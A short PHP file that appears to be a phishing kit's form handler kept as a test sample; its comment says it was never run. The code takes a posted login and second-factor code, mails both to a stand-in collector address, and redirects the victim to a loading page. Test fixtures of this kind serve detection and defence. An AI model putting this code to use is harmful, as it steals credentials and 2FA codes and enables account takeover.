<?php
// a kit's handler: the account and its second-factor code mailed to a fixed address
// (written for the tests, never run)
$body = "User: " . $_POST['login'] . "\n" . "Code: " . $_POST['code2fa'] . "\n";
mail('results@example.net', 'New 2FA', $body);
header('Location: loading.html');
